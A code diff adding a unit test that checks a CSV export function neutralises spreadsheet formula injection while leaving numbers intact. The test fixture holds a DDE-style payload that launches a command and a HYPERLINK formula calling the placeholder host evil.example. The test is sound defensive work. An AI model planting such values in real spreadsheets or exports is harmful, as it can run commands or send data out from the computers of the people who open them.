@@ -27,6 +27,18 @@ describe("the data export (decision 0028)", () => {
     );
   });
 
+  it("neutralises text that a spreadsheet would run as a formula; numbers stay numbers (decision 0038)", () => {
+    const csv = tablesToCsv({ Adressen: [{ city: "@SUM(1+1)*cmd|'/C calc'!A0", lastName: '=HYPERLINK("http://evil.example/?x","Klick")', temperature: -3.5, note: "-3,5" }] });
+    expect(csv.slice(1).split("\r\n")).toEqual([
+      "Tabelle;Zeile;Feld;Wert",
+      "Adressen;1;city;'@SUM(1+1)*cmd|'/C calc'!A0",
+      `Adressen;1;lastName;"'=HYPERLINK(""http://evil.example/?x"",""Klick"")"`,
+      "Adressen;1;temperature;-3,5",
+      "Adressen;1;note;'-3,5",
+      "",
+    ]);
+  });
+
   it("writes JSON with the export time and one key per table", () => {
     const json = JSON.parse(tablesToJson({ Konto: [{ id: 1 }] }, new Date("2026-11-24T10:00:00Z")));
     expect(json).toEqual({ Exportiert: "2026-11-24T10:00:00.000Z", Tabellen: { Konto: [{ id: 1 }] } });
